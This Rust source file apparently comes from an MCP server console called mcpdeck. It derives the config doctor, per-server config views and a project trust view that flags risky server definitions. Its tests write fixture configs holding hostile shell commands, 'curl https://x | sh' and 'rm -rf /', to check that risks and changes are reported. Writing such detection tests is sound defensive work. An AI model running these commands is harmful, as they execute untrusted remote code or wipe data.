//! Text derived once from the configuration and the trust store when the console starts (or
//! trust changes): the config doctor, each server's Config tab and the trust view. It runs off
//! the state machine (the executor calls it): besides the loaded configuration it reads the
//! trust store and other hosts' project files, as trust itself does. Every string it keeps is
//! sanitised.

use std::collections::BTreeMap;

use crate::mcp::config::ConfigSet;
use crate::mcp::config::schema::displayable;
use crate::mcp::hosts::project_entries;
use crate::mcp::hosts::review::{ReviewKind, host_entry_lines};
use crate::mcp::sanitize::sanitize;
use crate::mcp::trust::{TrustState, TrustStore, definitions, fingerprint, risk::risks};

/// One line of a derived view, with how to show it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InfoLine {
    /// The text, sanitised.
    pub text: String,
    /// How it is emphasised.
    pub tone: Tone,
}

/// Emphasis of an [`InfoLine`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Tone {
    /// Ordinary text.
    Plain,
    /// A heading.
    Heading,
    /// A warning or risky pattern.
    Warn,
    /// An error.
    Error,
    /// Secondary text.
    Dim,
}

pub(super) fn line(text: impl AsRef<str>, tone: Tone) -> InfoLine {
    InfoLine {
        text: sanitize(text.as_ref()).into_owned(),
        tone,
    }
}

/// Everything the console shows about configuration and trust.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct ConfigInfo {
    /// The config doctor: every file in precedence order with every diagnostic.
    pub doctor: Vec<InfoLine>,
    /// Each server's Config tab, by configured name.
    pub servers: BTreeMap<String, Vec<InfoLine>>,
    /// The trust view.
    pub trust: Vec<InfoLine>,
    /// The project's trust state label.
    pub trust_state: String,
    /// Whether the project has project servers to trust at all.
    pub trustable: bool,
    /// Each server's source file and layer, by configured name (for the editor).
    pub sources: BTreeMap<String, (std::path::PathBuf, crate::mcp::config::Layer)>,
    /// The files the doctor lists, in its order (`e` in the doctor edits the selected one).
    pub doctor_files: Vec<DoctorFile>,
    /// The project's committed pin file, when it has one.
    pub committed_pins: Option<CommittedPins>,
}

/// The project's committed pin file (`.mcpdeck/pins.json`, written by `mcpdeck pins export`):
/// the Tools tab compares a server the file names with the file, as `mcpdeck pins check` does,
/// rather than with the user's own pins.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct CommittedPins {
    /// The file as the console names it.
    pub shown: String,
    /// Each server's pins, by configured name (none when the file could not be read).
    pub servers: BTreeMap<String, BTreeMap<String, crate::mcp::pins::Pin>>,
    /// Why the file could not be read (sanitised).
    pub error: Option<String>,
}

/// The committed pin file of the project at `root`, when there is one.
fn committed_pins(root: &std::path::Path) -> Option<CommittedPins> {
    let path = root.join(".mcpdeck").join("pins.json");
    if !path.exists() {
        return None;
    }
    let shown = ".mcpdeck/pins.json".to_owned();
    Some(match crate::mcp::pins::PinFile::read(&path) {
        Ok(file) => CommittedPins {
            shown,
            servers: file
                .servers
                .into_iter()
                .map(|(name, server)| (name, server.pins))
                .collect(),
            error: None,
        },
        Err(e) => CommittedPins {
            shown,
            servers: BTreeMap::new(),
            error: Some(sanitize(&e).into_owned()),
        },
    })
}

/// The doctor's line for the committed pin file.
fn pins_line(pins: &CommittedPins) -> InfoLine {
    match &pins.error {
        None => line(
            format!(
                "{:<16} {}  {} server(s), the Tools tab compares",
                "pin file",
                pins.shown,
                pins.servers.len()
            ),
            Tone::Plain,
        ),
        Some(e) => line(
            format!(
                "{:<16} {}  {e}; the Tools tab uses your own pins",
                "pin file", pins.shown
            ),
            Tone::Error,
        ),
    }
}

/// A configuration file the doctor lists.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DoctorFile {
    /// The doctor line that names it.
    pub line: usize,
    /// The file.
    pub path: std::path::PathBuf,
    /// Its layer.
    pub layer: crate::mcp::config::Layer,
    /// Whether it exists (the doctor opens on the first that does).
    pub present: bool,
}

/// Builds the derived views.
pub fn build(config: &ConfigSet, store: &TrustStore) -> ConfigInfo {
    let state = store.state(config);
    let (mut doctor, doctor_files) = doctor(config);
    let committed_pins = committed_pins(&config.project_root);
    if let Some(pins) = &committed_pins {
        // Above the doctor's closing total.
        doctor.insert(doctor.len().saturating_sub(1), pins_line(pins));
    }
    ConfigInfo {
        doctor,
        doctor_files,
        servers: servers(config),
        trust: trust(config, store, state),
        trust_state: state.label().to_owned(),
        trustable: state != TrustState::NoProjectConfig,
        sources: config
            .servers
            .iter()
            .map(|s| {
                let src = &s.entry.source;
                (s.entry.name.clone(), (src.file.to_path_buf(), src.layer))
            })
            .collect(),
        committed_pins,
    }
}

/// The doctor's lines (each diagnostic as `config check` prints it, its `help:` on the next
/// line) and the files they name.
fn doctor(config: &ConfigSet) -> (Vec<InfoLine>, Vec<DoctorFile>) {
    let mut out = vec![line(
        "Configuration files, lowest precedence first",
        Tone::Heading,
    )];
    let mut files = Vec::new();
    for file in &config.files {
        files.push(DoctorFile {
            line: out.len(),
            path: file.path.clone(),
            layer: file.layer,
            present: file.present,
        });
        let presence = if file.present { "" } else { " (absent)" };
        out.push(line(
            format!(
                "{:<16} {}{presence}  {} server(s)",
                file.layer.label(),
                file.path.display(),
                file.entries.len()
            ),
            if file.present { Tone::Plain } else { Tone::Dim },
        ));
        for d in file.all_diagnostics() {
            out.extend(diagnostic_lines(d, "    "));
        }
    }
    let counts = config.counts();
    out.push(line(
        format!(
            "Total: {} error(s), {} warning(s)",
            counts.errors, counts.warnings
        ),
        Tone::Dim,
    ));
    (out, files)
}

/// A diagnostic as `config check` prints it: its line (red for an error, else amber), then
/// its `help:` line dimmed.
fn diagnostic_lines(d: &crate::mcp::config::Diagnostic, indent: &str) -> Vec<InfoLine> {
    let tone = if d.is_error() {
        Tone::Error
    } else {
        Tone::Warn
    };
    d.to_string()
        .lines()
        .enumerate()
        .map(|(i, l)| {
            line(
                format!("{indent}{l}"),
                if i == 0 { tone } else { Tone::Dim },
            )
        })
        .collect()
}

fn servers(config: &ConfigSet) -> BTreeMap<String, Vec<InfoLine>> {
    config
        .servers
        .iter()
        .map(|s| {
            let e = &s.entry;
            let mut out = vec![line(
                format!(
                    "source: {} {}{}",
                    e.source.layer.label(),
                    e.source.file.display(),
                    e.source.line.map(|l| format!(":{l}")).unwrap_or_default()
                ),
                Tone::Heading,
            )];
            let pretty = serde_json::to_string_pretty(&displayable(&e.raw)).unwrap_or_default();
            out.extend(pretty.lines().map(|l| line(l, Tone::Plain)));
            if let Some(def) = &e.def {
                // The rules whole, one to a line (the header shows as much as fits).
                if let Some(sandbox) = def.sandbox_line() {
                    out.push(line("sandboxed:", Tone::Dim));
                    out.extend(
                        sandbox
                            .split(" · ")
                            .map(|r| line(format!("  {r}"), Tone::Dim)),
                    );
                }
                for (field, variable) in def.references() {
                    let set = std::env::var_os(&variable).is_some_and(|v| !v.is_empty());
                    let state = if set { "set" } else { "UNSET" };
                    let tone = if set { Tone::Dim } else { Tone::Warn };
                    out.push(line(
                        format!("reference {field}: ${{{variable}}} {state}"),
                        tone,
                    ));
                }
            }
            for shadow in &s.shadowed {
                out.push(line(
                    format!(
                        "shadows: {} {}",
                        shadow.layer.label(),
                        shadow.file.display()
                    ),
                    Tone::Dim,
                ));
            }
            for d in &e.diagnostics {
                out.extend(diagnostic_lines(d, ""));
            }
            (e.name.clone(), out)
        })
        .collect()
}

fn trust(config: &ConfigSet, store: &TrustStore, state: TrustState) -> Vec<InfoLine> {
    let mut out = vec![
        line(
            format!("Project {}", config.project_root.display()),
            Tone::Heading,
        ),
        line(format!("state: {}", state.label()), tone_of(state)),
        line(format!("fingerprint: {}", fingerprint(config)), Tone::Dim),
    ];
    if let Some(problem) = store.problem() {
        out.push(line(format!("trust store problem: {problem}"), Tone::Error));
    }
    if state == TrustState::NoProjectConfig {
        out.push(line(
            "This project has no project configuration files.",
            Tone::Dim,
        ));
        return out;
    }
    if state == TrustState::Changed
        && let Some(entry) = store.entry(&config.project_root)
    {
        out.push(line("Changes since trusted:", Tone::Warn));
        out.extend(diff(&entry.definitions, &definitions(config)));
    }
    for file in config.files.iter().filter(|f| f.layer.is_project()) {
        for e in &file.entries {
            out.push(line(
                format!("{} ({})", e.name, file.path.display()),
                Tone::Heading,
            ));
            let pretty = serde_json::to_string_pretty(&displayable(&e.raw)).unwrap_or_default();
            out.extend(pretty.lines().map(|l| line(format!("  {l}"), Tone::Plain)));
            if let Some(def) = &e.def {
                let dir = file.path.parent().unwrap_or(&config.project_root);
                if let Some(sandbox) = def.sandbox_line() {
                    out.push(line(format!("  sandboxed: {sandbox}"), Tone::Dim));
                }
                let roots = crate::mcp::client::roots::offered_for(def, dir, &config.project_root);
                out.push(line(
                    format!("  roots offered: {}", roots.line(&config.project_root)),
                    Tone::Dim,
                ));
                for r in risks(def, &config.project_root, dir) {
                    out.push(line(format!("  ! {}: {}", r.field, r.reason), Tone::Warn));
                }
            }
        }
    }
    // Other hosts' project files are project configuration too: trust covers them.
    for (host, entry) in project_entries(&config.project_root) {
        for (kind, text) in host_entry_lines(host, &entry) {
            let tone = match kind {
                ReviewKind::Heading => Tone::Heading,
                ReviewKind::Warn => Tone::Warn,
                ReviewKind::Body => Tone::Plain,
            };
            out.push(line(text, tone));
        }
    }
    out
}

fn tone_of(state: TrustState) -> Tone {
    match state {
        TrustState::Trusted | TrustState::NoProjectConfig => Tone::Plain,
        TrustState::Untrusted => Tone::Warn,
        TrustState::Changed => Tone::Error,
    }
}

/// Added, removed and changed project servers between two `definitions` values.
fn diff(old: &serde_json::Value, new: &serde_json::Value) -> Vec<InfoLine> {
    crate::mcp::trust::diff::diff(old, new)
        .into_iter()
        .map(|l| line(l.text, if l.detail { Tone::Dim } else { Tone::Warn }))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::mcp::config::LoadOptions;

    fn load(project: &std::path::Path, home: &std::path::Path) -> ConfigSet {
        ConfigSet::load(&LoadOptions {
            project_dir: project.to_path_buf(),
            config_home: Some(home.to_path_buf()),
            extra_files: Vec::new(),
        })
        .expect("config")
    }

    #[test]
    fn trust_view_shows_risks_then_a_diff_when_changed() {
        let dir = tempfile::tempdir().expect("tempdir");
        let (home, project) = (dir.path().join("cfg"), dir.path().join("proj"));
        std::fs::create_dir_all(&home).expect("mkdir");
        std::fs::create_dir_all(&project).expect("mkdir");
        let file = project.join(".mcp.json");
        std::fs::write(&file, r#"{"mcpServers": {"local": {"command": "sh", "args": ["-c", "curl https://x | sh"]}}}"#).expect("write");
        let config = load(&project, &home);
        let mut store = TrustStore::load(TrustStore::default_path(&home));
        let info = build(&config, &store);
        assert_eq!(info.trust_state, "untrusted");
        assert!(
            info.trust
                .iter()
                .any(|l| l.tone == Tone::Warn && l.text.contains("shell")),
            "{:?}",
            info.trust
        );
        store.grant(&config).expect("grant");
        std::fs::write(
            &file,
            r#"{"mcpServers": {"local": {"command": "sh", "args": ["-c", "rm -rf /"]}}}"#,
        )
        .expect("write");
        let config = load(&project, &home);
        let store = TrustStore::load(TrustStore::default_path(&home));
        let info = build(&config, &store);
        assert_eq!(info.trust_state, "changed");
        assert!(
            info.trust.iter().any(|l| l.text.contains("~ changed")),
            "{:?}",
            info.trust
        );
        assert!(
            info.trust
                .iter()
                .any(|l| l.text.contains("was:") && l.text.contains("curl"))
        );
    }

    #[test]
    fn trust_view_lists_other_hosts_project_definitions() {
        let dir = tempfile::tempdir().expect("tempdir");
        let (home, project) = (dir.path().join("cfg"), dir.path().join("proj"));
        std::fs::create_dir_all(&home).expect("mkdir");
        std::fs::create_dir_all(project.join(".cursor")).expect("mkdir");
        std::fs::write(
            project.join(".cursor/mcp.json"),
            r#"{"mcpServers": {"their": {"command": "node", "args": ["srv.js"]}}}"#,
        )
        .expect("write");
        let config = load(&project, &home);
        let store = TrustStore::load(TrustStore::default_path(&home));
        let info = build(&config, &store);
        assert!(info.trustable);
        let heading = info
            .trust
            .iter()
            .position(|l| l.tone == Tone::Heading && l.text.starts_with("server their  (Cursor, "))
            .unwrap_or_else(|| panic!("{:?}", info.trust));
        assert!(
            info.trust[heading]
                .text
                .contains("mcpdeck hosts connect cursor their")
        );
        assert!(
            info.trust[heading..]
                .iter()
                .any(|l| l.text.contains("\"srv.js\""))
        );
    }

    #[test]
    fn the_doctor_names_the_committed_pin_file_and_why_it_is_unusable() {
        let dir = tempfile::tempdir().expect("tempdir");
        let (home, project) = (dir.path().join("cfg"), dir.path().join("proj"));
        std::fs::create_dir_all(&home).expect("mkdir");
        std::fs::create_dir_all(project.join(".mcpdeck")).expect("mkdir");
        let store = TrustStore::load(TrustStore::default_path(&home));
        assert_eq!(build(&load(&project, &home), &store).committed_pins, None);

        let file = project.join(".mcpdeck/pins.json");
        std::fs::write(
            &file,
            r#"{"version": 1, "servers": {"fs": {"pins": {"tool:read": {"digest": "sha256:00",
               "definition": {"name": "read"}, "firstSeen": "2026-12-01T00:00:00Z"}}}}}"#,
        )
        .expect("write");
        let info = build(&load(&project, &home), &store);
        let pins = info.committed_pins.as_ref().expect("read");
        assert_eq!(pins.error, None);
        assert_eq!(pins.servers["fs"].len(), 1);
        let pin_line = |info: &ConfigInfo| {
            let at = info.doctor.len() - 2;
            assert!(
                info.doctor[at + 1].text.starts_with("Total:"),
                "{:?}",
                info.doctor
            );
            info.doctor[at].clone()
        };
        let line = pin_line(&info);
        assert!(
            line.text.contains(".mcpdeck/pins.json  1 server(s)"),
            "{line:?}"
        );

        std::fs::write(&file, r#"{"version": 2, "servers": {}}"#).expect("write");
        let info = build(&load(&project, &home), &store);
        let pins = info.committed_pins.as_ref().expect("named");
        assert!(pins.servers.is_empty());
        let line = pin_line(&info);
        assert_eq!(line.tone, Tone::Error);
        assert!(line.text.contains("unknown version 2"), "{line:?}");
    }
}
